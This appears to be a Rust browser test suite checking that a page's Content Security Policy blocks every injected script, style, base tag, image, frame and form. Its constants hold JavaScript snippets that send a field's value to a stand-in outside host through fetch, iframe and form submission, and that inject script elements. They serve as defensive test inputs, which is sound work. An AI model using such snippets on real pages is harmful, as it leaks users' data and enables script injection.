//! The policy that the page carries in itself: it runs its own scripts and talks with its own server, wherever it stands.

use browser_tests::{Host, Page, Place, Site};

/// What each directive that counts is broken by.
const BREAK: [(&str, &str); 5] = [
    (
        "script-src-elem",
        "const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.head.append(script);",
    ),
    ("connect-src", "fetch('https://elsewhere.example/?w=' + id('w').value).catch(() => {});"),
    (
        "base-uri",
        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }));",
    ),
    ("img-src", "document.createElement('img').src = 'https://elsewhere.example/pixel.png';"),
    (
        "style-src-elem",
        "const style = document.createElement('style'); style.textContent = 'p {}'; document.head.append(style);",
    ),
];

/// A frame of somebody else; the single file lets itself be shown in one, wherever it lies.
const FRAME: (&str, &str) = (
    "frame-src",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/?w=' + id('w').value }));",
);
/// A form that sends what is in it; in a sandbox nothing is sent in any case.
const FORM: (&str, &str) = (
    "form-action",
    "const form = document.createElement('form'); form.action = 'https://elsewhere.example/'; document.body.append(form); form.submit();",
);

/// Asserts that the page works and that its policy forbids everything above, and `more`.
fn check(page: &Page, what: &str, more: &[(&str, &str)]) {
    page.opened();
    page.script(
        "window.refused = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));",
    );
    for (directive, attempt) in BREAK.iter().chain(more) {
        page.script(attempt);
        page.until(&format!("{what}: {directive} forbids it"), &format!("refused.includes('{directive}')"));
    }
    // What WebDriver runs may make programs of texts, and what it puts off may not; browsers tell of that in different ways.
    page.script(
        "setTimeout(() => { setTimeout('window.ran = true'); setTimeout(() => { window.tried = true; }, 1); });",
    );
    page.until(what, "window.tried === true");
    assert!(page.eval::<bool>("window.ran === undefined"), "{what}: a script of somebody else ran");
    let before = page.value("w");
    page.click("#w-more");
    assert!(page.value("w") > before, "{what}");
}

#[test]
fn a_page_by_itself_loads_and_sends_nothing_elsewhere() {
    let mut page = Page::open("view=train&data=houses");
    page.let_log();
    check(&page, "alone", &[FRAME, FORM]);
}

#[test]
fn nor_does_a_frame_in_a_sandbox_which_has_no_origin() {
    let site = Site::built().with_header("Access-Control-Allow-Origin", "*");
    let mut host =
        Host::new(site, Place::Across, "<iframe title=embed sandbox=allow-scripts src='PAGE?embed=1'></iframe>");
    host.page.let_log();
    host.ready();
    host.inside(|page| check(page, "sandbox", &[FRAME]));
}

#[test]
fn nor_does_the_page_that_is_one_file() {
    let mut page = Page::blank(Site::single_file());
    page.let_log();
    page.visit("wxplusb.html");
    check(&page, "one file", &[FORM]);
}
